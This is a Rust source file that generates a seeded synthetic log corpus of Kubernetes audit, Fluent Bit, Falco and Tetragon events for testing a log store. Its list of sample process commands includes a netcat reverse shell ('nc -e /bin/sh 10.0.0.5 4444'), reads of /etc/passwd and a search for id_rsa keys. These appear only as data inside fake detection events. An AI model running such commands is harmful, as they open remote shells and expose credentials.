//! A second corpus, shaped the way other shippers write (issue 23): Kubernetes audit events
//! with their full `requestObject`/`responseObject`, Fluent Bit container records enriched by
//! its `kubernetes` filter, and runtime-sensor process events (Falco JSON alerts, Tetragon
//! `process_exec`). Our own generator ([`crate::corpus`]) writes ECS-shaped events; this one
//! writes what a new user's cluster sends, so every store figure is taken on both.
//!
//! The audit events are drawn from real recorded audit: the Falco `k8s_audit` regression
//! traces (minikube, events with request and response objects) and the `hkerma` benign
//! cluster sample (metadata-level events), both under the shared test data (`--testdata`, by
//! default `$CROWSNEST_TESTDATA` or `../shared/testdata` beside the checkout). Each drawn
//! event gets fresh ids (every UUID in it replaced consistently within the event), times,
//! namespace, object name, user and source IP. Fluent Bit records follow the filter's
//! documented record (`log`, `stream`, `time`, `date`, `kubernetes.{pod_name, namespace_name,
//! pod_id, labels, annotations, host, container_name, docker_id, container_hash,
//! container_image}`) over a churning set of pods; Falco alerts follow its JSON output
//! (`output`, `priority`, `rule`, `source`, `tags`, `time`, `output_fields`); Tetragon events
//! follow its documented `process_exec` (`process` and `parent` with `exec_id`, `pod`,
//! `docker`, ...).
//!
//! Deterministic by seed: the same seed, count, start and test data give the same bytes.

use std::path::{Path, PathBuf};

use anyhow::Context;
use chrono::{DateTime, TimeDelta, Utc};
use serde_json::{json, Map, Value};

/// The share of each kind, in percent: audit, Fluent Bit, Falco, Tetragon.
const MIX: [u64; 4] = [30, 50, 8, 12];

/// Where the shared test data is, unless given.
pub fn default_testdata() -> PathBuf {
    if let Some(dir) = std::env::var_os("CROWSNEST_TESTDATA") {
        return PathBuf::from(dir);
    }
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/testdata")
}

/// A small, fast, seedable generator (SplitMix64): the corpus must not depend on a crate's
/// choice of algorithm between versions.
#[derive(Debug, Clone)]
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n.max(1)
    }
    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len() as u64) as usize]
    }
    fn hex(&mut self, len: usize) -> String {
        let mut out = String::with_capacity(len);
        while out.len() < len {
            out.push_str(&format!("{:016x}", self.next()));
        }
        out.truncate(len);
        out
    }
    fn uuid(&mut self) -> String {
        let h = self.hex(32);
        format!(
            "{}-{}-{}-{}-{}",
            &h[..8],
            &h[8..12],
            &h[12..16],
            &h[16..20],
            &h[20..]
        )
    }
    fn alnum(&mut self, len: usize) -> String {
        const CHARS: &[u8] = b"bcdfghjklmnpqrstvwxz2456789";
        (0..len)
            .map(|_| CHARS[self.below(CHARS.len() as u64) as usize] as char)
            .collect()
    }
}

const NAMESPACES: [&str; 12] = [
    "default",
    "kube-system",
    "payments",
    "checkout",
    "monitoring",
    "ingress-nginx",
    "cert-manager",
    "search",
    "data",
    "auth",
    "frontend",
    "batch",
];
const APPS: [&str; 14] = [
    "api",
    "web",
    "worker",
    "postgres",
    "redis",
    "nginx",
    "prometheus",
    "grafana",
    "coredns",
    "fluent-bit",
    "kafka",
    "elasticsearch",
    "auth-server",
    "cron-runner",
];
const NODES: [&str; 6] = [
    "ip-10-0-1-17.ec2.internal",
    "ip-10-0-1-52.ec2.internal",
    "ip-10-0-2-8.ec2.internal",
    "ip-10-0-2-91.ec2.internal",
    "ip-10-0-3-33.ec2.internal",
    "ip-10-0-3-140.ec2.internal",
];
const USERS: [&str; 10] = [
    "system:serviceaccount:kube-system:replicaset-controller",
    "system:serviceaccount:kube-system:deployment-controller",
    "system:kube-scheduler",
    "system:kube-controller-manager",
    "system:node:ip-10-0-1-17.ec2.internal",
    "system:apiserver",
    "alice@example.com",
    "bob@example.com",
    "ci-deployer",
    "system:serviceaccount:monitoring:prometheus",
];
const PATHS: [&str; 10] = [
    "/api/v1/orders",
    "/api/v1/users/me",
    "/healthz",
    "/metrics",
    "/api/v2/cart/items",
    "/login",
    "/static/app.js",
    "/api/v1/search?q=shoes",
    "/api/v1/payments",
    "/favicon.ico",
];
const ERRORS: [&str; 6] = [
    "connection refused",
    "context deadline exceeded",
    "no such host",
    "broken pipe",
    "TLS handshake timeout",
    "too many open files",
];
const BINARIES: [(&str, &str); 10] = [
    ("/bin/sh", "-c echo hello"),
    ("/usr/bin/curl", "-s http://10.96.0.1:443/healthz"),
    ("/usr/bin/whoami", ""),
    ("/bin/cat", "/etc/passwd"),
    ("/usr/bin/apt-get", "install -y netcat"),
    ("/usr/local/bin/python3", "/app/manage.py migrate"),
    ("/bin/bash", "-i"),
    ("/usr/bin/nc", "-e /bin/sh 10.0.0.5 4444"),
    ("/usr/sbin/nginx", "-g daemon off;"),
    ("/usr/bin/find", "/ -name id_rsa"),
];
const FALCO_RULES: [(&str, &str, &str); 6] = [
    (
        "Terminal shell in container",
        "Notice",
        "A shell was spawned in a container with an attached terminal",
    ),
    (
        "Write below binary dir",
        "Error",
        "File below a known binary directory opened for writing",
    ),
    (
        "Read sensitive file untrusted",
        "Warning",
        "Sensitive file opened for reading by non-trusted program",
    ),
    (
        "Launch Package Management Process in Container",
        "Error",
        "Package management process launched in container",
    ),
    (
        "Contact K8S API Server From Container",
        "Notice",
        "Unexpected connection to K8s API Server from container",
    ),
    (
        "Netcat Remote Code Execution in Container",
        "Warning",
        "Netcat runs inside container that allows remote code execution",
    ),
];

/// A running pod: what Fluent Bit's filter, Falco and Tetragon say about its container.
#[derive(Debug, Clone)]
struct Pod {
    namespace: &'static str,
    app: &'static str,
    name: String,
    uid: String,
    docker_id: String,
    image: String,
    image_digest: String,
    template_hash: String,
    node: &'static str,
}

impl Pod {
    fn new(rng: &mut Rng) -> Self {
        let namespace = *rng.pick(&NAMESPACES);
        let app = *rng.pick(&APPS);
        let template_hash = rng.alnum(10);
        let version = format!("{}.{}.{}", 1 + rng.below(3), rng.below(20), rng.below(10));
        Self {
            namespace,
            app,
            name: format!("{app}-{template_hash}-{}", rng.alnum(5)),
            uid: rng.uuid(),
            docker_id: rng.hex(64),
            image: format!("registry.example.com/{namespace}/{app}:{version}"),
            image_digest: rng.hex(64),
            template_hash,
            node: *rng.pick(&NODES),
        }
    }
}

/// The recorded audit events the audit side draws from.
#[derive(Debug, Clone)]
pub struct AuditSamples {
    /// Events with a request or response object (Falco's traces).
    full: Vec<Map<String, Value>>,
    /// Metadata-level events (the benign sample).
    metadata: Vec<Map<String, Value>>,
}

impl AuditSamples {
    /// Reads the samples under `testdata` (`k8s-audit/falco-traces/*.json` and
    /// `k8s-audit/benign-hkerma/audit-sample.jsonl`).
    ///
    /// # Errors
    ///
    /// When either is missing or holds no audit event.
    pub fn load(testdata: &Path) -> anyhow::Result<Self> {
        let traces = testdata.join("k8s-audit/falco-traces");
        let mut names: Vec<PathBuf> = std::fs::read_dir(&traces)
            .with_context(|| format!("reading `{}` (set --testdata)", traces.display()))?
            .filter_map(|entry| entry.ok().map(|e| e.path()))
            .filter(|path| path.extension().is_some_and(|e| e == "json"))
            .collect();
        names.sort();
        let mut full = Vec::new();
        for name in names {
            let text = std::fs::read_to_string(&name)
                .with_context(|| format!("reading `{}`", name.display()))?;
            for line in text.lines() {
                if let Ok(Value::Object(event)) = serde_json::from_str::<Value>(line) {
                    if event.get("kind").and_then(Value::as_str) == Some("Event") {
                        full.push(event);
                    }
                }
            }
        }
        let sample = testdata.join("k8s-audit/benign-hkerma/audit-sample.jsonl");
        let text = std::fs::read_to_string(&sample)
            .with_context(|| format!("reading `{}` (set --testdata)", sample.display()))?;
        let metadata: Vec<_> = text
            .lines()
            .filter_map(|line| match serde_json::from_str::<Value>(line) {
                Ok(Value::Object(event)) => Some(event),
                _ => None,
            })
            .collect();
        anyhow::ensure!(
            !full.is_empty() && !metadata.is_empty(),
            "no audit events under `{}`",
            testdata.display()
        );
        Ok(Self { full, metadata })
    }
}

/// The foreign corpus as an endless stream of compact JSON lines (no newline), with the time
/// of each; `events_per_second` spreads them from `start`.
#[derive(Debug, Clone)]
pub struct Foreign {
    rng: Rng,
    samples: AuditSamples,
    pods: Vec<Pod>,
    now: DateTime<Utc>,
    step_micros: i64,
    count: u64,
}

impl Foreign {
    /// A stream from `seed`, starting at `start`, `events_per_second` on average.
    pub fn new(
        seed: u64,
        samples: AuditSamples,
        start: DateTime<Utc>,
        events_per_second: f64,
    ) -> Self {
        let mut rng = Rng(seed ^ 0x5EED_F0E1_6A23);
        let pods = (0..80).map(|_| Pod::new(&mut rng)).collect();
        Self {
            rng,
            samples,
            pods,
            now: start,
            step_micros: (1e6 / events_per_second.max(1e-3)) as i64,
            count: 0,
        }
    }

    fn time(&self, offset_micros: i64) -> String {
        (self.now + TimeDelta::microseconds(offset_micros))
            .format("%Y-%m-%dT%H:%M:%S%.6fZ")
            .to_string()
    }

    fn pod(&mut self) -> Pod {
        // Pods come and go: one in 2,000 events replaces one, new ids and all.
        if self.rng.below(2_000) == 0 {
            let i = self.rng.below(self.pods.len() as u64) as usize;
            self.pods[i] = Pod::new(&mut self.rng);
        }
        self.rng.pick(&self.pods).clone()
    }

    /// The next line and its time.
    pub fn next_line(&mut self) -> (Vec<u8>, DateTime<Utc>) {
        self.count += 1;
        let jitter = self.rng.below(self.step_micros.max(1) as u64 * 2) as i64;
        self.now += TimeDelta::microseconds(jitter);
        let roll = self.rng.below(100);
        let value = if roll < MIX[0] {
            self.audit()
        } else if roll < MIX[0] + MIX[1] {
            self.fluent_bit()
        } else if roll < MIX[0] + MIX[1] + MIX[2] {
            self.falco()
        } else {
            self.tetragon()
        };
        // Serializing a `Value` cannot fail.
        (serde_json::to_vec(&value).unwrap_or_default(), self.now)
    }

    fn audit(&mut self) -> Value {
        let full = self.rng.below(100) < 60;
        let mut event = if full {
            self.rng.pick(&self.samples.full).clone()
        } else {
            self.rng.pick(&self.samples.metadata).clone()
        };
        let namespace = *self.rng.pick(&NAMESPACES);
        let user = *self.rng.pick(&USERS);
        let ip = format!("10.0.{}.{}", self.rng.below(4), 1 + self.rng.below(250));
        let mut replace: Vec<(String, String)> = Vec::new();
        if let Some(name) = event
            .get("objectRef")
            .and_then(|o| o.get("name"))
            .and_then(Value::as_str)
        {
            let fresh = format!("{name}-{}", self.rng.alnum(5));
            replace.push((name.to_owned(), fresh));
        }
        let received = self.time(0);
        let took = 1_000 + self.rng.below(40_000) as i64;
        let stage = self.time(took);
        let mut ids = Vec::new();
        collect_uuids(&Value::Object(event.clone()), &mut ids);
        ids.sort();
        ids.dedup();
        for id in ids {
            let fresh = self.rng.uuid();
            replace.push((id, fresh));
        }
        let version = (4_000_000 + self.count * 3 + self.rng.below(3)).to_string();
        let mut value = Value::Object(std::mem::take(&mut event));
        rewrite(&mut value, &replace, namespace, &version, &received);
        if let Value::Object(event) = &mut value {
            event.insert("requestReceivedTimestamp".into(), json!(received));
            event.insert("stageTimestamp".into(), json!(stage));
            if event.contains_key("timestamp") {
                event.insert("timestamp".into(), json!(received));
            }
            if let Some(Value::Object(u)) = event.get_mut("user") {
                u.insert("username".into(), json!(user));
                if user.starts_with("system:serviceaccount:") {
                    u.insert("uid".into(), json!(self.rng.uuid()));
                }
            }
            event.insert("sourceIPs".into(), json!([ip]));
            event
                .entry("apiVersion")
                .or_insert(json!("audit.k8s.io/v1"));
            event.entry("kind").or_insert(json!("Event"));
            event.entry("level").or_insert(json!("Metadata"));
        }
        value
    }

    fn fluent_bit(&mut self) -> Value {
        let pod = self.pod();
        let time = self.time(0);
        let stderr = self.rng.below(100) < 15;
        let log = self.log_line(&pod, &time, stderr);
        let mut labels = Map::new();
        labels.insert("app".into(), json!(pod.app));
        labels.insert("app.kubernetes.io/name".into(), json!(pod.app));
        labels.insert("pod-template-hash".into(), json!(pod.template_hash));
        labels.insert(
            "app.kubernetes.io/part-of".into(),
            json!(format!("{}-stack", pod.namespace)),
        );
        let mut annotations = Map::new();
        annotations.insert(
            "kubectl.kubernetes.io/restartedAt".into(),
            json!("2026-11-30T08:12:44Z"),
        );
        if pod.app == "api" || pod.app == "web" || pod.app == "prometheus" {
            annotations.insert("prometheus.io/scrape".into(), json!("true"));
            annotations.insert("prometheus.io/port".into(), json!("9102"));
        }
        annotations.insert(
            "checksum/config".into(),
            json!(pod.image_digest[..40].to_string()),
        );
        let date = self.now.timestamp_micros() as f64 / 1e6;
        json!({
            "date": date,
            "log": log,
            "stream": if stderr { "stderr" } else { "stdout" },
            "time": time,
            "kubernetes": {
                "pod_name": pod.name,
                "namespace_name": pod.namespace,
                "pod_id": pod.uid,
                "labels": labels,
                "annotations": annotations,
                "host": pod.node,
                "container_name": pod.app,
                "docker_id": pod.docker_id,
                "container_hash": format!("{}@sha256:{}", pod.image.split(':').next().unwrap_or(""), pod.image_digest),
                "container_image": pod.image,
            }
        })
    }

    fn log_line(&mut self, pod: &Pod, time: &str, stderr: bool) -> String {
        let ip = format!(
            "10.{}.{}.{}",
            self.rng.below(4),
            self.rng.below(256),
            1 + self.rng.below(250)
        );
        let path = *self.rng.pick(&PATHS);
        let request_id = self.rng.uuid();
        let latency = self.rng.below(900) + 1;
        match (stderr, self.rng.below(5)) {
            (true, 0) => format!(
                "E{} {:>7} reflector.go:138] failed to list *v1.Pod: Get \"https://10.96.0.1:443/api/v1/pods?limit=500\": dial tcp 10.96.0.1:443: {}\n",
                &time[5..19].replace(['-', 'T'], ""),
                1 + self.rng.below(99),
                self.rng.pick(&ERRORS)
            ),
            (true, 1) => format!(
                "Exception in thread \"main\" java.lang.IllegalStateException: {} while calling {path}\n\tat com.example.{}.Service.handle(Service.java:{})\n\tat com.example.{}.Router.dispatch(Router.java:88)\n",
                self.rng.pick(&ERRORS),
                pod.app.replace('-', ""),
                40 + self.rng.below(400),
                pod.app.replace('-', "")
            ),
            (true, _) => format!(
                "{time} ERROR [{}] request {request_id} to {path} failed after {latency}ms: {}\n",
                pod.app,
                self.rng.pick(&ERRORS)
            ),
            (false, 0 | 1) => format!(
                "{ip} - - [{}] \"{} {path} HTTP/1.1\" {} {} \"-\" \"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36\" {latency} {request_id}\n",
                self.now.format("%d/%b/%Y:%H:%M:%S +0000"),
                if self.rng.below(4) == 0 { "POST" } else { "GET" },
                *self.rng.pick(&[200, 200, 200, 201, 204, 301, 304, 400, 401, 404, 500, 503]),
                self.rng.below(40_000),
            ),
            (false, 2 | 3) => format!(
                "{}\n",
                json!({
                    "level": *self.rng.pick(&["info", "info", "info", "debug", "warn"]),
                    "ts": time,
                    "caller": format!("server/handler.go:{}", 20 + self.rng.below(300)),
                    "msg": "request completed",
                    "method": "GET",
                    "path": path,
                    "status": *self.rng.pick(&[200, 200, 404, 500]),
                    "duration_ms": latency,
                    "request_id": request_id,
                    "user_id": format!("u-{}", self.rng.below(50_000)),
                })
            ),
            _ => format!(
                "{time} INFO  [{}] processed batch of {} records from partition {} in {latency} ms (lag {})\n",
                pod.app,
                self.rng.below(5_000),
                self.rng.below(32),
                self.rng.below(100_000)
            ),
        }
    }

    fn falco(&mut self) -> Value {
        let pod = self.pod();
        let (rule, priority, text) = *self.rng.pick(&FALCO_RULES);
        let (binary, args) = *self.rng.pick(&BINARIES);
        let name = binary.rsplit('/').next().unwrap_or(binary);
        let cmdline = format!("{name} {args}").trim_end().to_owned();
        let container_id = &pod.docker_id[..12];
        let time = self.time(0);
        let nanos = self.now.timestamp_micros() * 1000;
        let user = if self.rng.below(3) == 0 {
            "app"
        } else {
            "root"
        };
        let pid = 1000 + self.rng.below(60_000);
        let file = *self
            .rng
            .pick(&["/etc/shadow", "/bin/hack", "/etc/passwd", "<NA>"]);
        json!({
            "hostname": pod.node,
            "output": format!(
                "{}: {priority} {text} (user={user} user_loginuid=-1 command={cmdline} pid={pid} file={file} container_id={container_id} image={} k8s.ns={} k8s.pod={})",
                &time[11..26], pod.image, pod.namespace, pod.name
            ),
            "priority": priority,
            "rule": rule,
            "source": "syscall",
            "tags": ["container", "process", "mitre_execution", "T1059"],
            "time": format!("{}000Z", &time[..time.len() - 1]),
            "output_fields": {
                "container.id": container_id,
                "container.image.repository": pod.image.split(':').next().unwrap_or(""),
                "container.image.tag": pod.image.rsplit(':').next().unwrap_or(""),
                "evt.time": nanos,
                "fd.name": file,
                "k8s.ns.name": pod.namespace,
                "k8s.pod.name": pod.name,
                "proc.cmdline": cmdline,
                "proc.exepath": binary,
                "proc.name": name,
                "proc.pid": pid,
                "proc.pname": *self.rng.pick(&["bash", "sh", "containerd-shim", "runc"]),
                "user.loginuid": -1,
                "user.name": user,
                "user.uid": if user == "root" { 0 } else { 1000 },
            }
        })
    }

    fn tetragon(&mut self) -> Value {
        let pod = self.pod();
        let (binary, args) = *self.rng.pick(&BINARIES);
        let time = self.time(0);
        let node = pod.node;
        let pid = 1000 + self.rng.below(60_000);
        let parent_pid = pid - 1 - self.rng.below(50);
        let exec_id = |rng: &mut Rng, pid: u64| {
            use base64::Engine as _;
            let raw = format!("{node}:{}:{pid}", rng.below(1 << 40));
            base64::engine::general_purpose::STANDARD.encode(raw)
        };
        let own_id = exec_id(&mut self.rng, pid);
        let parent_id = exec_id(&mut self.rng, parent_pid);
        let grand_id = exec_id(&mut self.rng, parent_pid - 1);
        let container = json!({
            "id": format!("containerd://{}", pod.docker_id),
            "name": pod.app,
            "image": {
                "id": format!("{}@sha256:{}", pod.image.split(':').next().unwrap_or(""), pod.image_digest),
                "name": pod.image,
            },
            "start_time": "2026-11-30T08:12:50Z",
            "pid": 1 + self.rng.below(60),
        });
        let pod_value = json!({
            "namespace": pod.namespace,
            "name": pod.name,
            "container": container,
            "pod_labels": {"app": pod.app, "pod-template-hash": pod.template_hash},
            "workload": format!("{}", pod.app),
            "workload_kind": "Deployment",
        });
        json!({
            "process_exec": {
                "process": {
                    "exec_id": own_id,
                    "pid": pid,
                    "uid": 0,
                    "cwd": "/",
                    "binary": binary,
                    "arguments": args,
                    "flags": "execve rootcwd clone",
                    "start_time": time,
                    "auid": 4_294_967_295u64,
                    "pod": pod_value,
                    "docker": &pod.docker_id[..31],
                    "parent_exec_id": parent_id,
                    "tid": pid,
                },
                "parent": {
                    "exec_id": parent_id,
                    "pid": parent_pid,
                    "uid": 0,
                    "cwd": "/",
                    "binary": "/bin/bash",
                    "flags": "execve rootcwd clone",
                    "start_time": self.time(-2_000_000),
                    "auid": 4_294_967_295u64,
                    "pod": pod_value,
                    "docker": &pod.docker_id[..31],
                    "parent_exec_id": grand_id,
                    "tid": parent_pid,
                }
            },
            "node_name": node,
            "time": time,
        })
    }
}

impl Iterator for Foreign {
    type Item = (Vec<u8>, DateTime<Utc>);

    fn next(&mut self) -> Option<Self::Item> {
        Some(self.next_line())
    }
}

/// True for the 8-4-4-4-12 hex shape of a UUID.
fn is_uuid(text: &str) -> bool {
    let bytes = text.as_bytes();
    bytes.len() == 36
        && bytes.iter().enumerate().all(|(i, b)| match i {
            8 | 13 | 18 | 23 => *b == b'-',
            _ => b.is_ascii_hexdigit(),
        })
}

fn collect_uuids(value: &Value, out: &mut Vec<String>) {
    match value {
        Value::String(s) if is_uuid(s) => out.push(s.clone()),
        Value::Array(items) => items.iter().for_each(|v| collect_uuids(v, out)),
        Value::Object(map) => map.values().for_each(|v| collect_uuids(v, out)),
        _ => {}
    }
}

/// Replaces the strings of `replace` wherever they are whole values or part of one (names
/// appear in URIs), the namespace of objects, resource versions and creation times.
fn rewrite(
    value: &mut Value,
    replace: &[(String, String)],
    namespace: &str,
    version: &str,
    time: &str,
) {
    match value {
        Value::String(s) => {
            for (old, new) in replace {
                if s.contains(old.as_str()) {
                    *s = s.replace(old.as_str(), new);
                }
            }
        }
        Value::Array(items) => items
            .iter_mut()
            .for_each(|v| rewrite(v, replace, namespace, version, time)),
        Value::Object(map) => {
            for (key, inner) in map.iter_mut() {
                match key.as_str() {
                    "namespace" if inner.is_string() => *inner = json!(namespace),
                    "resourceVersion" if inner.is_string() => *inner = json!(version),
                    "creationTimestamp" if inner.is_string() => *inner = json!(time),
                    "requestURI" | "selfLink" => {
                        if let Value::String(s) = inner {
                            for ns in NAMESPACES {
                                let from = format!("/namespaces/{ns}/");
                                if s.contains(&from) {
                                    *s = s.replace(&from, &format!("/namespaces/{namespace}/"));
                                    break;
                                }
                            }
                        }
                        rewrite(inner, replace, namespace, version, time);
                    }
                    _ => rewrite(inner, replace, namespace, version, time),
                }
            }
        }
        _ => {}
    }
}

/// `events` lines of the foreign corpus from `seed`, spread over the `span` before now.
///
/// # Errors
///
/// When the shared audit samples cannot be read.
pub fn lines(
    seed: u64,
    events: u64,
    span: chrono::Duration,
    testdata: &Path,
) -> anyhow::Result<Foreign> {
    let samples = AuditSamples::load(testdata)?;
    let secs = span.num_seconds().max(1) as f64;
    Ok(Foreign::new(
        seed,
        samples,
        Utc::now() - span,
        (events as f64 / secs).max(1.0),
    ))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn stream(seed: u64) -> Foreign {
        let samples = AuditSamples::load(&default_testdata()).expect("shared test data");
        let start = DateTime::parse_from_rfc3339("2026-12-01T00:00:00Z")
            .expect("time")
            .with_timezone(&Utc);
        Foreign::new(seed, samples, start, 100.0)
    }

    #[test]
    fn the_same_seed_gives_the_same_bytes_and_another_seed_others() {
        let a: Vec<_> = stream(1).take(300).collect();
        let b: Vec<_> = stream(1).take(300).collect();
        let c: Vec<_> = stream(2).take(300).collect();
        assert_eq!(a, b);
        assert_ne!(a, c);
    }

    #[test]
    fn every_kind_appears_and_every_line_normalizes_to_one_event() {
        let limits = crowsnest_normalize::Limits::default();
        let mut kinds = [0; 4];
        for (line, _) in stream(3).take(2_000) {
            let value: Value = serde_json::from_slice(&line).expect("json");
            let kind = if value.get("auditID").is_some() {
                0
            } else if value.get("kubernetes").is_some() {
                1
            } else if value.get("output_fields").is_some() {
                2
            } else {
                assert!(value.get("process_exec").is_some(), "{value}");
                3
            };
            kinds[kind] += 1;
            let decoded = crowsnest_normalize::decode_ndjson(&line, None, &limits);
            assert!(decoded.errors.is_empty(), "{:?}", decoded.errors);
            assert_eq!(decoded.events.len(), 1);
        }
        assert!(kinds.iter().all(|n| *n > 50), "{kinds:?}");
        let audit: Vec<Value> = stream(4)
            .take(500)
            .map(|(line, _)| serde_json::from_slice(&line).expect("json"))
            .filter(|v: &Value| v.get("auditID").is_some())
            .collect();
        assert!(audit.iter().any(|v| v.get("requestObject").is_some()));
        assert!(audit.iter().any(|v| v.get("responseObject").is_some()));
        let ids: std::collections::HashSet<_> =
            audit.iter().map(|v| v["auditID"].clone()).collect();
        assert_eq!(ids.len(), audit.len(), "fresh audit ids");
    }
}
